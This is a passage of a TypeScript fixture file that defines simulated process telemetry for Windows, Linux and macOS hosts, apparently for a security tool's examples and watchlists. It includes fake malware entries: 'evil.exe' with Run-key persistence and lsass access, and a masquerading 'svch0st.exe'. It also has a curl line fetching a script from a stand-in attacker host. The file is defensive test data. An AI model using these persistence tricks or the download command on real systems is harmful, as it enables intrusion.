  prog({ key: 'winword', name: 'winword.exe', path: 'c:\\program files\\microsoft office\\root\\office16\\winword.exe', product: 'Microsoft Office', desc: 'Microsoft Word', version: '16.0.16924.20124', publisher: 'Microsoft Corporation', size: 1_600_000, cmdlines: ['"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\report-q{n}.docx"'], runAs: 'user', life: 'medium', dlls: W(GUI, ['mso.dll']), rates: [4, 4, 0.5, 0], files: USERFILES, regs: USERREGS }),
  prog({ key: 'excel', name: 'excel.exe', path: 'c:\\program files\\microsoft office\\root\\office16\\excel.exe', product: 'Microsoft Office', desc: 'Microsoft Excel', version: '16.0.16924.20124', publisher: 'Microsoft Corporation', size: 62_000_000, cmdlines: ['"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" '], runAs: 'user', life: 'medium', dlls: W(GUI, ['mso.dll']), rates: [3, 3, 0.5, 0], files: USERFILES, regs: USERREGS }),
  prog({ key: 'sqlservr', name: 'sqlservr.exe', path: 'c:\\program files\\microsoft sql server\\mssql15.mssqlserver\\mssql\\binn\\sqlservr.exe', product: 'Microsoft SQL Server', desc: 'SQL Server Windows NT - 64 Bit', version: '2019.0150.2000.05 ((SQLServer).190924-2033 )', publisher: 'Microsoft Corporation', size: 520_000, cmdlines: ['"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe" -sMSSQLSERVER'], runAs: 'NETWORK SERVICE', life: 'forever', dlls: W(NET), rates: [5, 1, 3, 0], files: ['c:\\program files\\microsoft sql server\\mssql15.mssqlserver\\mssql\\data\\tempdb.mdf', 'c:\\program files\\microsoft sql server\\mssql15.mssqlserver\\mssql\\log\\errorlog'], net: [{ domain: '', ip: '10.0.2.31', port: 1433, proto: 6 }] }),
  prog({ key: 'w3wp', name: 'w3wp.exe', path: 'c:\\windows\\system32\\inetsrv\\w3wp.exe', desc: 'IIS Worker Process', size: 28_000, cmdlines: ['c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm{hex} -h "C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config" -w "" -m 0'], runAs: 'NETWORK SERVICE', life: 'long', dlls: W(NET, DOTNET), rates: [3, 1, 4, 0], files: ['c:\\inetpub\\logs\\logfiles\\w3svc1\\u_ex{n}.log'], net: WEBNET }),
  // Malware used by the docs examples, feeds and watchlists.
  prog({ key: 'evil', name: 'evil.exe', path: 'c:\\users\\{user}\\appdata\\local\\temp\\evil.exe', company: '', product: '', desc: '', version: '', publisher: null, is64: false, size: 73_728,
    cmdlines: ['"C:\\Users\\{user}\\AppData\\Local\\Temp\\evil.exe" -install', 'C:\\Users\\{user}\\AppData\\Local\\Temp\\evil.exe /s'],
    runAs: 'user', life: 'long', dlls: W(NET, ['evilhelper.dll']), rates: [3, 4, 5, 2], evil: true,
    files: ['c:\\users\\{user}\\appdata\\local\\temp\\evilhelper.dll', 'c:\\users\\{user}\\appdata\\roaming\\microsoft\\windows\\start menu\\programs\\startup\\updater.lnk', 'c:\\users\\public\\{hex}.dat', 'c:\\users\\public\\svch0st.exe'],
    regs: ['\\registry\\user\\{sid}\\software\\microsoft\\windows\\currentversion\\run\\updater', '\\registry\\machine\\software\\microsoft\\windows\\currentversion\\run\\svchost'],
    net: EVIL_NET, cross: ['lsass', 'explorer'] }),
  prog({ key: 'svch0st', name: 'svch0st.exe', path: 'c:\\users\\public\\svch0st.exe', company: MS, product: '', desc: 'Host Process for Windows Services', version: '10.0.19041.1', publisher: null, is64: false, size: 112_640,
    cmdlines: ['c:\\users\\public\\svch0st.exe -k netsvcs'], runAs: 'user', life: 'long', dlls: W(NET), rates: [1, 2, 6, 1], evil: true,
    files: ['c:\\users\\public\\{hex}.dat'], regs: ['\\registry\\machine\\software\\microsoft\\windows\\currentversion\\run\\svch0st'], net: EVIL_NET, cross: ['lsass'] }),
];

/** Linux and macOS programs: small trees only. */
export const UNIX_PROGRAMS: readonly ProgramSpec[] = [
  { key: 'systemd', name: 'systemd', path: '/usr/lib/systemd/systemd', os: 'linux', company: '', product: 'systemd', desc: '', version: '239', publisher: null, is64: true, exe: true, size: 1_600_000, cmdlines: ['/usr/lib/systemd/systemd --switched-root --system --deserialize 18'], runAs: 'root', life: 'forever', dlls: [], rates: [1, 0, 0, 0], files: ['/run/systemd/journal/streams/8:{n}'] },
  { key: 'sshd', name: 'sshd', path: '/usr/sbin/sshd', os: 'linux', company: '', product: 'OpenSSH', desc: '', version: '7.4p1', publisher: null, is64: true, exe: true, size: 820_000, cmdlines: ['/usr/sbin/sshd -D', 'sshd: {user} [priv]'], runAs: 'root', life: 'forever', dlls: [], rates: [0.5, 0, 2, 0], files: ['/var/log/secure'], net: [{ domain: '', ip: '10.0.5.14', port: 22, proto: 6 }] },
  { key: 'crond', name: 'crond', path: '/usr/sbin/crond', os: 'linux', company: '', product: 'cronie', desc: '', version: '1.4.11', publisher: null, is64: true, exe: true, size: 70_000, cmdlines: ['/usr/sbin/crond -n'], runAs: 'root', life: 'forever', dlls: [], rates: [0.5, 0, 0, 0], files: ['/var/log/cron'] },
  { key: 'bash', name: 'bash', path: '/usr/bin/bash', os: 'linux', company: '', product: 'GNU bash', desc: '', version: '4.2.46', publisher: null, is64: true, exe: true, size: 960_000, cmdlines: ['-bash', '/bin/bash /opt/scripts/backup.sh'], runAs: 'user', life: 'medium', dlls: [], rates: [1, 0, 0, 0], files: ['/home/{user}/.bash_history', '/tmp/tmp.{hex}'] },
  { key: 'curl', name: 'curl', path: '/usr/bin/curl', os: 'linux', company: '', product: 'curl', desc: '', version: '7.29.0', publisher: null, is64: true, exe: true, size: 160_000, cmdlines: ['curl -s https://github.com', 'curl -O http://dl.evil-updates.example/x.sh'], runAs: 'user', life: 'short', dlls: [], rates: [0.5, 0, 1, 0], files: ['/tmp/x.sh'], net: [WEBNET[2], EVIL_NET[2]] },
  { key: 'python3', name: 'python3', path: '/usr/bin/python3.6', os: 'linux', company: '', product: 'Python', desc: '', version: '3.6.8', publisher: null, is64: true, exe: true, size: 11_000, cmdlines: ['/usr/bin/python3 /opt/app/worker.py'], runAs: 'user', life: 'long', dlls: [], rates: [2, 0, 2, 0], files: ['/opt/app/log/worker.log'], net: WEBNET },
  { key: 'launchd', name: 'launchd', path: '/sbin/launchd', os: 'osx', company: 'Apple Inc.', product: 'macOS', desc: '', version: '10.15', publisher: 'Software Signing', is64: true, exe: true, size: 470_000, cmdlines: ['/sbin/launchd'], runAs: 'root', life: 'forever', dlls: [], rates: [1, 0, 0, 0], files: ['/private/var/db/launchd.db/{hex}'] },
  { key: 'loginwindow', name: 'loginwindow', path: '/system/library/coreservices/loginwindow.app/contents/macos/loginwindow', os: 'osx', company: 'Apple Inc.', product: 'macOS', desc: '', version: '10.15', publisher: 'Software Signing', is64: true, exe: true, size: 1_200_000, cmdlines: ['/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow console'], runAs: 'user', life: 'forever', dlls: [], rates: [0.5, 0, 0, 0], files: ['/users/{user}/library/preferences/com.apple.loginwindow.plist'] },
  { key: 'terminal', name: 'terminal', path: '/applications/utilities/terminal.app/contents/macos/terminal', os: 'osx', company: 'Apple Inc.', product: 'macOS', desc: '', version: '2.10', publisher: 'Software Signing', is64: true, exe: true, size: 3_100_000, cmdlines: ['/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal'], runAs: 'user', life: 'long', dlls: [], rates: [1, 0, 0, 0], files: ['/users/{user}/library/saved application state/com.apple.terminal.savedstate/data.data'] },
  { key: 'zsh', name: 'zsh', path: '/bin/zsh', os: 'osx', company: 'Apple Inc.', product: 'macOS', desc: '', version: '5.7.1', publisher: 'Software Signing', is64: true, exe: true, size: 620_000, cmdlines: ['-zsh'], runAs: 'user', life: 'medium', dlls: [], rates: [1, 0, 0, 0], files: ['/users/{user}/.zsh_history'] },
  { key: 'safari', name: 'safari', path: '/applications/safari.app/contents/macos/safari', os: 'osx', company: 'Apple Inc.', product: 'Safari', desc: '', version: '14.0', publisher: 'Software Signing', is64: true, exe: true, size: 16_000, cmdlines: ['/Applications/Safari.app/Contents/MacOS/Safari'], runAs: 'user', life: 'long', dlls: [], rates: [3, 0, 4, 0], files: ['/users/{user}/library/caches/com.apple.safari/cache.db'], net: WEBNET },
  { key: 'mac-curl', name: 'curl', path: '/usr/bin/curl', os: 'osx', company: 'Apple Inc.', product: 'macOS', desc: '', version: '7.64.1', publisher: 'Software Signing', is64: true, exe: true, size: 200_000, cmdlines: ['curl -sL https://github.com'], runAs: 'user', life: 'short', dlls: [], rates: [0.3, 0, 1, 0], net: [WEBNET[2]] },
];

/** Vendors for the long tail of downloaded installers (some unsigned). */
export const LONG_TAIL_VENDORS: readonly { company: string; product: string; file: string }[] = [
  { company: 'Zoom Video Communications, Inc.', product: 'Zoom', file: 'zoominstaller' },
  { company: 'Notepad++ Team', product: 'Notepad++', file: 'npp.installer.x64' },
  { company: 'Igor Pavlov', product: '7-Zip', file: '7z-x64' },
  { company: 'Simon Tatham', product: 'PuTTY suite', file: 'putty-64bit-installer' },
  { company: 'VideoLAN', product: 'VLC media player', file: 'vlc-win64' },
  { company: 'Python Software Foundation', product: 'Python', file: 'python-amd64' },
  { company: 'Mozilla Corporation', product: 'Firefox', file: 'firefox-setup' },
  { company: 'Slack Technologies, LLC', product: 'Slack', file: 'slacksetup' },
  { company: '', product: '', file: 'keygen' },
  { company: '', product: '', file: 'free-pdf-converter' },
];

/** Operating systems: display string, os_environment_id, family, host type, weight. */
export interface OsSpec {
  display: string;
  envId: number;
  family: OsFamily;
  hostType: 'workstation' | 'server';
  weight: number;
}

export const OPERATING_SYSTEMS: readonly OsSpec[] = [
  { display: 'Windows 10 Enterprise Edition (build 19045), 64-bit', envId: 1, family: 'windows', hostType: 'workstation', weight: 40 },
  { display: 'Windows 10 Pro (build 19044), 64-bit', envId: 2, family: 'windows', hostType: 'workstation', weight: 12 },
  { display: 'Windows 11 Enterprise Edition (build 22631), 64-bit', envId: 3, family: 'windows', hostType: 'workstation', weight: 18 },
  { display: 'Windows 11 Pro (build 22621), 64-bit', envId: 4, family: 'windows', hostType: 'workstation', weight: 6 },
  { display: 'Windows Server 2019 Standard Edition (build 17763), 64-bit', envId: 5, family: 'windows', hostType: 'server', weight: 10 },
  { display: 'Windows Server 2022 Datacenter Edition (build 20348), 64-bit', envId: 6, family: 'windows', hostType: 'server', weight: 6 },
  { display: 'Mac OSX 10.15.7', envId: 7, family: 'osx', hostType: 'workstation', weight: 4 },
  { display: 'CentOS Linux release 7.9.2009 (Core)', envId: 8, family: 'linux', hostType: 'server', weight: 4 },
];

export const FIRST_NAMES = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'niaj', 'olivia', 'peggy', 'rupert', 'sybil', 'trent', 'victor', 'walter', 'yolanda'];
export const LAST_NAMES = ['smith', 'jones', 'garcia', 'chen', 'patel', 'nguyen', 'kim', 'müller', 'rossi', 'silva', 'brown', 'wilson'];
